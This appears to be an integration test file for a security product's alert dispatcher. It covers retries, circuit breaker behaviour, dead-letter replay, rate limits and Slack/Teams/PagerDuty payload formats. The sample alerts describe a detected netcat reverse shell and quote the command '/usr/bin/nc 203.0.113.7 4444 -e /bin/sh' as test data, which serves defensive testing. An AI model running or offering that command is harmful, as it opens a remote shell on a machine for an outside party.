// The outbox dispatcher against a real HTTP receiver on 127.0.0.1 that fails, stalls and recovers: retries with
// backoff; the sink's breaker opens after consecutive failures (nothing is sent while it is open), lets one probe
// through after the cool-down (a stalled probe opens it again), and closes when a probe succeeds, after which every
// alert is delivered exactly once; the breaker state is on /metrics. Dead letters after the last attempt, replayed;
// the rate limit per sink; filters and repeat suppression; Slack, Teams and PagerDuty bodies as their APIs take them.

import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { createServer, type IncomingHttpHeaders, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { pino } from 'pino';
import { AlertDispatcher, type DeliveryOptions } from '../../src/alerts/dispatcher.ts';
import { signature } from '../../src/alerts/transports.ts';
import { registry } from '../../src/metrics/registry.ts';
import { alertDoc, sinkOf, tempSinks, until, type TempSinks } from './support.ts';

type Mode = 'ok' | 'fail' | 'stall' | 'not-found';
let mode: Mode = 'ok';
const requests: { at: number; mode: Mode; path: string; headers: IncomingHttpHeaders; body: string }[] = [];
let receiver: Server;
let base = '';

before(async () => {
  receiver = createServer((req, res) => {
    const chunks: Buffer[] = [];
    req.on('data', (c: Buffer) => chunks.push(c));
    req.on('end', () => {
      const m = mode;
      requests.push({ at: Date.now(), mode: m, path: req.url ?? '', headers: req.headers, body: Buffer.concat(chunks).toString() });
      if (m === 'stall') return; // never answers: the attempt times out
      res.writeHead(m === 'ok' ? 204 : m === 'not-found' ? 404 : 503).end();
    });
  });
  await new Promise<void>((r) => receiver.listen(0, '127.0.0.1', r));
  base = `http://127.0.0.1:${(receiver.address() as AddressInfo).port}`;
});

after(async () => {
  receiver.closeAllConnections();
  await new Promise((r) => receiver.close(r));
});

// The timeout is 2 s, not less: on a loaded machine a prompt answer can take a few hundred ms to be read.
const FAST: DeliveryOptions = { allowPrivateTargets: true, pollMs: 20, baseDelayMs: 30, maxDelayMs: 60, timeoutMs: 2000, leaseMs: 5000, repeatWindowMs: 0 };

async function withDispatcher<T>(o: DeliveryOptions, body: (d: AlertDispatcher, t: TempSinks) => Promise<T>): Promise<T> {
  const t = await tempSinks('vigil-dispatcher-');
  const d = new AlertDispatcher({ sinks: t.store, outbox: t.store, log: pino({ level: process.env.DISPATCH_LOG ?? 'silent' }) }, { ...FAST, ...o });
  try {
    d.start();
    return await body(d, t);
  } finally {
    await d.close();
    await t.dispose();
  }
}

const breakerMetric = async (sink: string) => Number(new RegExp(`vigil_alert_sink_breaker\\{sink="${sink}"\\} (\\d)`).exec(await registry.metrics())?.[1]);

test('fails, stalls, recovers: the breaker opens, probes, opens again, closes; every alert delivered once', { timeout: 60_000 }, async () => {
  await withDispatcher({ breakerThreshold: 3, breakerCooldownMs: 600, maxAttempts: 50 }, async (d, t) => {
    const secret = 'webhook-secret-0123456789';
    const sink = await t.store.create(sinkOf({ type: 'webhook', url: `${base}/hook`, secret }));
    mode = 'fail';
    const start = requests.length;
    for (let i = 1; i <= 10; i++) await d.enqueue(alertDoc(i));
    // Open, and every first attempt recorded (the ten went out together; those in flight when it opened are done).
    const opened = await until('the breaker open', async () => {
      const tried = (await t.store.forSink('t1', sink.id, undefined, 20)).every((x) => x.attempts >= 1);
      const h = await t.store.health(sink.id);
      return tried && h.breaker === 'open' && h;
    });
    assert.equal(await breakerMetric(sink.id), 2, 'open on /metrics');
    const health = await t.store.health(sink.id);
    assert.ok(health.failures >= 3);
    assert.match(health.lastError ?? '', /HTTP 503/);
    assert.equal(health.queued, 10, 'nothing lost, nothing given up');
    // While open, nothing is sent: the next request is the probe, at or after the cool-down's end.
    const whileOpen = requests.length;
    // The probe after the cool-down stalls: the breaker opens again.
    mode = 'stall';
    await until('a stalled probe', () => requests.slice(whileOpen).some((r) => r.mode === 'stall'), 10_000);
    assert.ok(requests.slice(whileOpen).every((r) => r.at >= opened.breakerUntil!), 'no attempt while the breaker is open');
    assert.equal(requests.slice(whileOpen).length, 1, 'one probe, not a burst');
    await until('open again after the stalled probe', async () => { const h = await t.store.health(sink.id); return h.breaker === 'open' && /no answer within 2000 ms/.test(h.lastError ?? ''); }, 10_000);
    // The receiver recovers: the next probe closes the breaker and the backlog drains.
    mode = 'ok';
    await until('every alert delivered', async () => (await t.store.health(sink.id)).queued === 0, 20_000);
    const h = await t.store.health(sink.id);
    assert.deepEqual([h.breaker, h.failures, h.dead], ['closed', 0, 0]);
    assert.equal(await breakerMetric(sink.id), 0);
    const accepted = requests.slice(start).filter((r) => r.mode === 'ok');
    const alertIds = accepted.map((r) => JSON.parse(r.body).alert.id);
    assert.deepEqual([...new Set(alertIds)].sort(), Array.from({ length: 10 }, (_, i) => `alert-${i + 1}`).sort());
    assert.equal(alertIds.length, 10, 'each accepted once');
    for (const r of accepted) assert.equal(r.headers['x-vigil-signature'], signature(secret, r.body));
    const body = JSON.parse(accepted[0].body);
    assert.equal(body.type, 'alert');
    assert.equal(body.delivery_id, accepted[0].headers['x-vigil-delivery']);
    assert.equal(body.alert.summary.command_line, '/usr/bin/nc 203.0.113.7 4444 -e /bin/sh');
  });
});

test('dead letters after the last attempt, replayed once the receiver is fixed; a 404 is not retried', { timeout: 30_000 }, async () => {
  await withDispatcher({ maxAttempts: 3, breakerThreshold: 100 }, async (d, t) => {
    const sink = await t.store.create(sinkOf({ type: 'webhook', url: `${base}/dead`, format: 'ecs' }));
    mode = 'fail';
    const start = requests.length;
    await d.enqueue(alertDoc(21));
    await until('dead', async () => (await t.store.health(sink.id)).dead === 1);
    assert.equal(requests.length - start, 3, 'three attempts');
    const gaps = requests.slice(start).map((r, i, all) => (i ? r.at - all[i - 1].at : 0)).slice(1);
    assert.ok(gaps.every((g) => g >= 14), `backoff between attempts: ${gaps.join(', ')} ms`);
    mode = 'not-found';
    await d.enqueue(alertDoc(22));
    await until('dead at once', async () => (await t.store.health(sink.id)).dead === 2);
    assert.equal(requests.length - start, 4, 'a 404 is final');
    mode = 'ok';
    const dead = await t.store.forSink('t1', sink.id, 'dead', 10);
    assert.equal(await t.store.replay('t1', sink.id, undefined, Date.now()), 2);
    await until('replayed and delivered', async () => (await t.store.forSink('t1', sink.id, 'delivered', 10)).length === 2);
    const ecs = JSON.parse(requests.at(-1)!.body);
    assert.equal(ecs.event.kind, 'alert', 'the sink\'s format (ECS)');
    assert.deepEqual(dead.map((x) => x.state), ['dead', 'dead']);
  });
});

test('the rate limit per sink holds deliveries back; filters and repeat suppression decide what is queued', { timeout: 30_000 }, async () => {
  await withDispatcher({ repeatWindowMs: 60_000 }, async (d, t) => {
    mode = 'ok';
    const limited = await t.store.create(sinkOf({ type: 'webhook', url: `${base}/limited`, options: { rate_per_minute: 5 } }));
    const critical = await t.store.create(sinkOf({ type: 'webhook', url: `${base}/critical`, filters: { min_severity: 'critical' } }));
    const c2 = await t.store.create(sinkOf({ type: 'webhook', url: `${base}/c2`, filters: { mitre_tactics: ['command and control'], rule_tags: ['attack.t1095'] } }));
    const other = await t.store.create(sinkOf({ type: 'webhook', url: `${base}/other`, filters: { mitre_tactics: ['Exfiltration'] } }));
    await t.store.create(sinkOf({ type: 'webhook', url: `${base}/every`, options: { repeat_window_s: 0 } }));
    const start = requests.length;
    for (let i = 1; i <= 8; i++) await d.enqueue(alertDoc(i));
    // A repeat of rule and host within the window: recorded, not delivered again.
    assert.deepEqual((await d.enqueue(alertDoc(1, { id: 'alert-1-repeat' }))).sort(), ['queued', 'suppressed', 'suppressed'], 'a sink with no repeat window takes it');
    const byPath = (p: string) => requests.slice(start).filter((r) => r.path === p).length;
    await until('the c2 sink has all', () => byPath('/c2') === 8);
    await until('five delivered to the limited sink', async () => (await t.store.health(limited.id)).queued === 3);
    await new Promise((r) => setTimeout(r, 300));
    assert.equal(byPath('/limited'), 5, 'five per minute: the rest wait');
    assert.equal((await t.store.health(limited.id)).queued, 3);
    assert.equal(byPath('/critical'), 0, 'below the minimum severity');
    assert.equal(byPath('/other'), 0, 'another tactic');
    assert.deepEqual([(await t.store.health(critical.id)).queued, (await t.store.health(other.id)).queued, (await t.store.health(c2.id)).queued], [0, 0, 0]);
    await until('the sink without a repeat window has all nine', () => byPath('/every') === 9);
    assert.deepEqual((await t.store.forAlert('t1', 'alert-1-repeat')).map((x) => x.state).sort(), ['delivered', 'suppressed', 'suppressed']);
  });
});

test('Slack, Teams and PagerDuty receive bodies shaped for their APIs', { timeout: 30_000 }, async () => {
  await withDispatcher({}, async (d, t) => {
    mode = 'ok';
    await t.store.create(sinkOf({ type: 'slack', url: `${base}/slack`, format: 'text' }));
    await t.store.create(sinkOf({ type: 'teams', url: `${base}/teams`, format: 'text' }));
    await t.store.create(sinkOf({ type: 'pagerduty', url: `${base}/pd`, format: 'text', secret: 'routing-key-0123456789abcdef' }));
    const start = requests.length;
    await d.enqueue(alertDoc(31));
    await until('three posts', () => requests.length - start === 3);
    const body = (p: string) => JSON.parse(requests.slice(start).find((r) => r.path === p)!.body);
    const slack = body('/slack');
    assert.match(slack.text, /^\[high\] Netcat reverse shell on web-31\.example \(user www-data\): \/usr\/bin\/nc/);
    assert.equal(slack.blocks[0].type, 'header');
    assert.ok(slack.blocks[1].fields.some((f: { text: string }) => f.text.includes('/tmp/.x/payload')));
    const teams = body('/teams');
    assert.equal(teams.type, 'message');
    assert.equal(teams.attachments[0].contentType, 'application/vnd.microsoft.card.adaptive');
    assert.equal(teams.attachments[0].content.type, 'AdaptiveCard');
    assert.ok(teams.attachments[0].content.body[2].facts.some((f: { title: string; value: string }) => f.title === 'Destination' && f.value === '203.0.113.7:4444'));
    const pd = body('/pd');
    assert.deepEqual([pd.routing_key, pd.event_action, pd.dedup_key], ['routing-key-0123456789abcdef', 'trigger', 'vigil-t1-alert-31']);
    assert.deepEqual([pd.payload.severity, pd.payload.source, pd.payload.class], ['error', 'web-31.example', 'vigil-netcat-reverse-shell']);
    assert.ok(pd.payload.summary.length > 0 && pd.payload.summary.length <= 1024);
    assert.ok(!requests.slice(start).some((r) => r.path !== '/pd' && r.body.includes('routing-key')), 'the routing key goes to PagerDuty only');
  });
});

test('a disabled sink queues nothing new and holds what it had queued until it is enabled again', { timeout: 30_000 }, async () => {
  const t = await tempSinks('vigil-dispatcher-');
  const log = pino({ level: 'silent' });
  const queuer = new AlertDispatcher({ sinks: t.store, outbox: t.store, log }, FAST); // never started: it only queues
  const sender = new AlertDispatcher({ sinks: t.store, outbox: t.store, log }, FAST);
  try {
    mode = 'ok';
    const sink = await t.store.create(sinkOf({ type: 'webhook', url: `${base}/paused` }));
    await queuer.enqueue(alertDoc(41));
    await t.store.update('t1', sink.id, { enabled: false }, Date.now());
    assert.deepEqual(await queuer.enqueue(alertDoc(42)), [], 'nothing new for a disabled sink');
    sender.start();
    await new Promise((r) => setTimeout(r, 400));
    assert.equal(requests.filter((r) => r.path === '/paused').length, 0, 'held');
    assert.equal((await t.store.health(sink.id)).queued, 1);
    await t.store.update('t1', sink.id, { enabled: true }, Date.now());
    await until('sent once enabled', () => requests.some((r) => r.path === '/paused'));
    assert.equal(JSON.parse(requests.find((r) => r.path === '/paused')!.body).alert.id, 'alert-41');
  } finally {
    await sender.close();
    await queuer.close();
    await t.dispose();
  }
});
